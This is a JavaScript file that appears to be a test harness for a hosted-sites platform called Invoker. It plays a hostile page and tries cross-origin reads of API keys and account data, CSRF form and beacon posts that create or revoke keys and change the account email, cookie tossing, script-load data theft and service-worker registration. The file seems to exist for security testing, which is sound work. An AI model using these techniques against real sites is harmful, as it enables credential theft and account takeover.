// What a page on the sites domain may try against the dashboard and against another site. `run` tries all of it and
// returns what each attempt got hold of: text that it could read, or null.
const frame = () => document.body.appendChild(document.createElement("iframe"));
const after = (ms) => new Promise((done) => setTimeout(done, ms));

async function read(url, options) {
  const answer = await fetch(url, { credentials: "include", ...options });
  return answer.type === "opaque" ? null : answer.text();
}

async function framed(url) {
  const inside = frame();
  inside.src = url;
  await new Promise((done) => { inside.onload = inside.onerror = done; setTimeout(done, 1500); });
  return inside.contentDocument?.documentElement.outerHTML.includes("Invoker") ? inside.contentDocument.body.innerText : null;
}

async function opened(url) {
  const other = open(url);
  if (!other) return null;
  await after(1500);
  other.postMessage({ type: "reveal", key: true }, "*");
  let text = null;
  try { text = other.document.body.innerText; } finally { try { other.close(); } catch { /* severed */ } }
  return text;
}

async function scripted(url) {
  window.got = null;
  const script = document.createElement("script");
  Object.defineProperty(Object.prototype, "keys", { configurable: true, set(value) { window.got = value; } });
  script.src = url;
  document.head.append(script);
  await after(500);
  delete Object.prototype.keys;
  return window.got && JSON.stringify(window.got);
}

// A form's own post, into a frame that cannot be read: what it changes is what counts.
async function posted(url, fields, enctype) {
  const inside = frame();
  inside.name = `f${Math.random()}`;
  const form = document.createElement("form");
  Object.assign(form, { action: url, method: "post", target: inside.name, enctype: enctype ?? form.enctype });
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement("input");
    Object.assign(input, { type: "hidden", name, value });
    form.append(input);
  }
  document.body.append(form);
  form.submit();
  await after(400);
  return null;
}

const sent = async (url, options) => { await fetch(url, { credentials: "include", mode: "no-cors", ...options }); return null; };
const asked = (url, method, body) =>
  read(url, { method, headers: { "Content-Type": "application/json" }, body: body && JSON.stringify(body) });

async function tossed(names, domains) {
  for (const name of names) for (const domain of domains) {
    document.cookie = `${name}=ses_${"A".repeat(43)}; path=/${domain ? `; domain=${domain}` : ""}`;
    document.cookie = `${name}=ses_${"A".repeat(43)}; path=/dashboard${domain ? `; domain=${domain}` : ""}`;
  }
  return null;
}

// a.b.c → a.b.c, b.c, c
const parents = (host) => host.split(".").map((_, at, all) => all.slice(at).join("."));

async function worker(url, scope) {
  await navigator.serviceWorker.register(url, scope ? { scope } : {});
  await navigator.serviceWorker.ready;
  return null;
}

window.run = async ({ app, api, sibling, keyId, sessionId, loginId, code, email }) => {
  const attempts = {
    "read itself": () => read("/attack.js"),
    "read the keys": () => read(`${app}/api/keys`),
    "read the keys, no-cors": () => read(`${app}/api/keys`, { mode: "no-cors" }),
    "read the keys at the API's address": () => read(`${api}/keys`),
    "read the account": () => read(`${app}/api/auth/me`),
    "read the sites": () => read(`${app}/api/deploy`),
    "read the trail": () => read(`${app}/api/audit`),
    "read the export": () => read(`${app}/api/auth/export`),
    "read the dashboard": () => read(`${app}/dashboard`),
    "frame the dashboard": () => framed(`${app}/dashboard`),
    "frame the login": () => framed(`${app}/login`),
    "open the dashboard": () => opened(`${app}/dashboard`),
    "load the keys as a script": () => scripted(`${app}/api/keys`),
    "read the other site": () => read(sibling),
    "open the other site": () => opened(sibling),
    "make a key by a form": () => posted(`${app}/api/keys`, { '{"name":"stolen","x":"': '"}' }, "text/plain"),
    "make a key by a plain form": () => posted(`${app}/api/keys`, { name: "stolen" }),
    "make a key without asking": () => sent(`${app}/api/keys`, { method: "POST", body: '{"name":"stolen"}' }),
    "make a key by asking": () => asked(`${app}/api/keys`, "POST", { name: "stolen" }),
    "make a key by a beacon": async () => { navigator.sendBeacon(`${app}/api/keys`, '{"name":"stolen"}'); return null; },
    "put a page live": () => sent(`${app}/api/deploy`, { method: "POST", body: '{"html":"<p>stolen</p>"}' }),
    "revoke a key": () => asked(`${app}/api/keys/${keyId}`, "DELETE"),
    "rotate a key": () => sent(`${app}/api/keys/${keyId}/rotate`, { method: "POST", body: "{}" }),
    "revoke everything": () => sent(`${app}/api/keys/revoke-all`, { method: "POST", body: "{}" }),
    "end the session": () => asked(`${app}/api/auth/sessions/${sessionId}`, "DELETE"),
    "change the address": () => sent(`${app}/api/auth/email`, { method: "POST", body: '{"email":"evil@example.com"}' }),
    "delete the account": () => asked(`${app}/api/auth/account`, "DELETE", { confirm: email }),
    "log out by a form": () => posted(`${app}/logout`, { x: "1" }),
    "log out by the API": () => sent(`${app}/api/auth/logout`, { method: "POST", body: "{}" }),
    "log in as somebody else by a form": () => posted(`${app}/login/${loginId}/code`, { code }),
    "go on with somebody else's login": () => posted(`${app}/login/${loginId}/continue`, { x: "1" }),
    "toss cookies": () => tossed(["invoker_session", "__Host-invoker_session", "invoker_login"],
      ["", ...parents(location.hostname), ...parents(new URL(app).hostname)]),
    "install a worker": () => worker("sw.js"),
    "install a worker for all": () => worker("sw.js", "/"),
  };
  const results = await Promise.all(Object.entries(attempts).map(async ([name, attempt]) => {
    try {
      return [name, await Promise.race([attempt(), after(4000)]) ?? null];
    } catch {
      return [name, null];
    }
  }));
  return Object.fromEntries(results);
};
